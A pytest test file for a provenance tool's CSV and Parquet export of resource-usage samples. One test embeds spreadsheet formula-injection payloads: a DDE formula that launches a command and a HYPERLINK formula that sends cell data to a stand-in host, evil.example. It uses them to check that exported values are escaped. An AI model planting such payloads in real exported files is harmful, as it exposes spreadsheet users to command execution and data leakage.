"""Samples as one long table, against the crates' own JSON."""

from __future__ import annotations

import csv
import json
import shutil
from datetime import datetime, timezone
from pathlib import Path
from typing import Any

import pytest

from prov_worker.cli.main import run as cli
from prov_worker.errors import InputError
from prov_worker.run.api import open_run
from prov_worker.run.export.samples import write_csv, write_parquet
from prov_worker.run.index.tables import SAMPLES
from prov_worker.testing import CrateFactory


def expected(crates: Path) -> dict[tuple[str, str, str, float], float | None]:
    """Values by attempt, series, quantity and offset, read without any code of the product."""
    samples = {}
    for path in sorted(crates.glob("*/data/resource_usage.json")):
        for base, series in json.loads(path.read_text(encoding="utf-8"))["series"].items():
            for name, column in series["columns"].items():
                for offset, value in zip(series["offset_s"], column["mean"], strict=True):
                    samples[path.parents[1].name.removesuffix(".crate"), base, name, offset] = value
    return samples


def test_csv_holds_every_sample(crates: Path, tmp_path: Path) -> None:
    target = tmp_path / "series.csv"
    count = write_csv(open_run(crates), target)
    with target.open(encoding="utf-8", newline="") as stream:
        rows = list(csv.DictReader(stream))
    assert list(rows[0]) == list(SAMPLES)
    assert len(rows) == count
    samples = {
        (row["key"], row["series"], row["quantity"], float(row["offset_s"])): float(row["mean"])
        if row["mean"]
        else None
        for row in rows
    }
    assert samples == expected(crates)
    assert {row["unit"] for row in rows if row["quantity"] == "rss_bytes"} == {"byte"}


def test_times_are_the_start_of_the_attempt_and_the_offset(crates: Path, tmp_path: Path) -> None:
    write_csv(open_run(crates), tmp_path / "series.csv")
    with (tmp_path / "series.csv").open(encoding="utf-8", newline="") as stream:
        row = next(csv.DictReader(stream))
    data = json.loads((crates / f"{row['key']}.crate" / "data/resource_usage.json").read_text(encoding="utf-8"))
    moment = datetime.fromisoformat(row["time"])
    assert moment.tzinfo == timezone.utc
    assert moment.timestamp() == pytest.approx(data["start_ns"] / 1e9 + float(row["offset_s"]), abs=2e-6)


def test_parquet_holds_the_same(crates: Path, tmp_path: Path) -> None:
    pq = pytest.importorskip("pyarrow.parquet", reason="pyarrow is not installed")
    target = tmp_path / "series.parquet"
    count = write_parquet(open_run(crates), target)
    table = pq.read_table(target)
    assert table.column_names == list(SAMPLES)
    assert table.num_rows == count
    columns: dict[str, list[Any]] = {
        name: table[name].to_pylist() for name in ("key", "series", "quantity", "offset_s", "mean")
    }
    assert dict(zip(zip(*list(columns.values())[:4], strict=True), columns["mean"], strict=True)) == expected(crates)
    assert str(table.schema.field("time").type) == "timestamp[ns, tz=UTC]"


def test_chosen_tasks_alone(crates: Path, tmp_path: Path) -> None:
    task = sorted(crates.iterdir())[0].name.split(".")[0]
    write_csv(open_run(crates), tmp_path / "series.csv", tasks={task})
    with (tmp_path / "series.csv").open(encoding="utf-8", newline="") as stream:
        assert {row["task_id"] for row in csv.DictReader(stream)} == {task}
    with pytest.raises(InputError, match="no attempt matches"):
        write_csv(open_run(crates), tmp_path / "none.csv", tasks={"no-such-task"})
    assert not (tmp_path / "none.csv").exists()
    assert sorted(path.name for path in tmp_path.iterdir()) == ["series.csv"]


@pytest.mark.parametrize(
    "keys, value",
    [
        ([], {"series": {"task": {}}}),
        (["task", "offset_s", 0], None),
        (["task", "offset_s", 0], 1e300),
        (["task", "columns", "cpu_percent", "mean", 0], 10**400),
        (["task", "columns", "cpu_percent", "mean", 0], float("nan")),
        (["task", "columns", "cpu_percent", "unit"], []),
        (["task", "interval_s"], None),
        (["task", "expected"], "many"),
    ],
)
def test_a_damaged_series_is_a_problem_and_the_rest_is_written(
    crates: Path, tmp_path: Path, keys: list[Any], value: Any
) -> None:
    for path in sorted(crates.iterdir())[:3]:
        shutil.copytree(path, tmp_path / "some" / path.name)
    broken = next((tmp_path / "some").glob("*/data/resource_usage.json"))
    data = json.loads(broken.read_text())
    place: Any = data["series"]
    for key in keys[:-1]:
        place = place[key]
    if keys:
        place[keys[-1]] = value
    broken.write_text(json.dumps(data if keys else value))
    run = open_run(tmp_path / "some")
    assert write_csv(run, tmp_path / "series.csv") > 0
    assert [broken.parents[1].name in str(problem) for problem in run.problems] == [True]


def test_a_data_frame_is_the_same_table(crates: Path, tmp_path: Path) -> None:
    pd = pytest.importorskip("pandas")
    run = open_run(crates)
    write_csv(run, tmp_path / "series.csv")
    written = pd.read_csv(tmp_path / "series.csv")
    frames = pd.concat([run.series_frame(step) for step in run.steps()], ignore_index=True)
    assert list(frames.columns) == list(written.columns)
    written["time"] = pd.to_datetime(written["time"])
    frames["time"] = frames["time"].dt.floor("us")
    pd.testing.assert_frame_equal(frames, written, check_dtype=False)


@pytest.mark.parametrize("raw", [False, True])
def test_a_formula_is_quoted_unless_a_program_asks(tmp_path: Path, raw: bool) -> None:
    factory = CrateFactory(tmp_path / "crates", host="@SUM(1+1)*cmd|' /C calc'!A0")
    factory.add(1, '=HYPERLINK("http://evil.example/"&A1,"x")', sampled=True)
    write_csv(open_run(factory.directory), tmp_path / "series.csv", raw=raw)
    with (tmp_path / "series.csv").open(encoding="utf-8", newline="") as stream:
        row = next(csv.DictReader(stream))
    mark = "" if raw else "'"
    assert row["host"] == f"{mark}@SUM(1+1)*cmd|' /C calc'!A0"
    assert row["function"] == f'{mark}=HYPERLINK("http://evil.example/"&A1,"x")'


def test_raw_is_for_csv(crates: Path, tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    command = ["run", "export", str(crates), "--format", "flowcept", "-o", str(tmp_path / "out"), "--raw"]
    assert cli(command) == 2
    assert "--raw goes with --format csv" in capsys.readouterr().err
    assert not (tmp_path / "out").exists()
